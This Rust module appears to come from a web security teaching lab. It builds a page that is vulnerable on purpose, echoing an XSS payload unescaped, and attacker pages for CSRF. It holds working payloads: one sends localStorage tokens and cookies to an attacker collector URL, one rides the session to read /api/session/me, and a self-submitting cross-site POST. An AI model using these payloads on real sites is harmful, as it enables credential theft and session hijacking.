//! The security lab's plain pages, outside the Leptos app: the page that is vulnerable on
//! purpose (it puts a payload into its HTML unescaped) and the attacker's pages. Every
//! value put into them is either the lab's own text, escaped, or checked by the server
//! first (lab IDs are base64url, origins are built by the server), except the payload,
//! which is the point and comes from a fixed list.

use crate::i18n::{td_string, Locale};

/// The payloads the vulnerable page can carry: a fixed list, so a public deployment runs
/// no script a visitor wrote. Named `steal` and `ride` in URLs and in the security page's
/// state.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub enum Payload {
    /// Reads the localStorage token and `document.cookie`, and sends both away.
    #[serde(rename = "steal")]
    StealStorage,
    /// Calls `/api/session/me` from inside the page (the browser attaches the HttpOnly
    /// cookie) and sends the answer away.
    #[serde(rename = "ride")]
    RideSession,
}

impl Payload {
    pub fn from_name(name: &str) -> Option<Self> {
        [Self::StealStorage, Self::RideSession]
            .into_iter()
            .find(|p| p.name() == name)
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::StealStorage => "steal",
            Self::RideSession => "ride",
        }
    }

    /// The payload as it lands in the page, sending to `collect` (the attacker's URL).
    pub fn markup(self, collect: &str) -> String {
        match self {
            Self::StealStorage => format!(
                "<img src=\"data:,\" alt=\"\" onerror=\"fetch('{collect}',{{method:'POST',mode:'no-cors',body:JSON.stringify({{kind:'storage',token:localStorage.getItem('{key}'),cookie:document.cookie}})}})\">",
                key = crate::client::TOKEN_KEY,
            ),
            Self::RideSession => format!(
                "<script>fetch('/api/session/me').then(function(r){{return r.text().then(function(b){{return fetch('{collect}',{{method:'POST',mode:'no-cors',body:JSON.stringify({{kind:'riding',status:r.status,body:b}})}})}})}})</script>"
            ),
        }
    }
}

/// Escapes text for HTML element content and double-quoted attributes.
pub fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn page(locale: Locale, title: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html><html lang=\"{lang}\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <title>{title}</title></head><body>{body}</body></html>",
        lang = crate::lang::tag(locale),
        title = escape(title),
    )
}

/// The vulnerable page: a visible banner, then the payload, unescaped.
pub fn vulnerable(locale: Locale, payload: Payload, collect: &str, csp_on: bool) -> String {
    let csp = if csp_on {
        td_string!(locale, security.vulnerable.csp_on)
    } else {
        td_string!(locale, security.vulnerable.csp_off)
    };
    let body = format!(
        // No inline style: under the CSP switch it would be reported beside the payload.
        "<p role=\"alert\"><mark><strong>{banner}</strong></mark> {csp}</p>\
         <div data-testid=\"echo\">{echo}: {payload}</div>",
        banner = escape(td_string!(locale, security.vulnerable.banner)),
        csp = escape(csp),
        echo = escape(td_string!(locale, security.vulnerable.echo)),
        payload = payload.markup(collect),
    );
    page(locale, td_string!(locale, security.vulnerable.title), &body)
}

/// The attacker's front page, so that opening its address shows what it is.
pub fn attacker_index(locale: Locale) -> String {
    let body = format!(
        "<h1>{}</h1><p>{}</p>",
        escape(td_string!(locale, security.attacker.title)),
        escape(td_string!(locale, security.attacker.about)),
    );
    page(locale, td_string!(locale, security.attacker.title), &body)
}

/// How the attacker's CSRF page sends its request (`form` or `fetch`, in URLs and in the
/// security page's state).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Channel {
    /// A form that submits itself (a top-level cross-site POST navigation).
    Form,
    /// `fetch(..., {credentials: 'include', mode: 'no-cors'})` from the attacker's page.
    Fetch,
}

impl Channel {
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "form" => Some(Self::Form),
            "fetch" => Some(Self::Fetch),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::Form => "form",
            Self::Fetch => "fetch",
        }
    }
}

/// The display name the attacker tries to give the victim's session.
pub const ATTACKER_NAME: &str = "attacker was here";

/// The attacker's CSRF page: it sends one cross-site POST to `target` as soon as it loads.
pub fn csrf(locale: Locale, channel: Channel, target: &str) -> String {
    let send = match channel {
        Channel::Form => format!(
            "<form method=\"post\" action=\"{target}\"><input type=\"hidden\" name=\"display_name\" value=\"{ATTACKER_NAME}\"></form>\
             <script>document.forms[0].submit()</script>"
        ),
        Channel::Fetch => format!(
            "<script>fetch('{target}',{{method:'POST',mode:'no-cors',credentials:'include',headers:{{'Content-Type':'application/x-www-form-urlencoded'}},body:'display_name={}'}}).finally(function(){{document.body.dataset.sent='1'}})</script>",
            ATTACKER_NAME.replace(' ', "+")
        ),
    };
    let body = format!(
        "<h1>{}</h1><p>{}</p>{send}",
        escape(td_string!(locale, security.attacker.title)),
        escape(td_string!(locale, security.attacker.csrf_sending)),
    );
    page(locale, td_string!(locale, security.attacker.title), &body)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_listed_payloads_exist_and_they_send_to_the_collector() {
        assert_eq!(Payload::from_name("steal"), Some(Payload::StealStorage));
        assert_eq!(Payload::from_name("<script>"), None);
        let markup = Payload::StealStorage.markup("http://localhost:3002/collect?lab=x");
        assert!(markup.contains("localStorage.getItem('auth_lab.access_token')"));
        assert!(markup.contains("http://localhost:3002/collect?lab=x"));
        assert!(Payload::RideSession
            .markup("C")
            .contains("fetch('/api/session/me')"));
    }

    #[test]
    fn the_page_escapes_its_own_text_but_not_the_payload() {
        assert_eq!(
            escape("<a href=\"x\">&"),
            "&lt;a href=&quot;x&quot;&gt;&amp;"
        );
        let html = vulnerable(Locale::en, Payload::RideSession, "C", false);
        assert!(html.contains("<script>fetch('/api/session/me')"));
        assert!(html.contains("lang=\"en\""));
    }
}
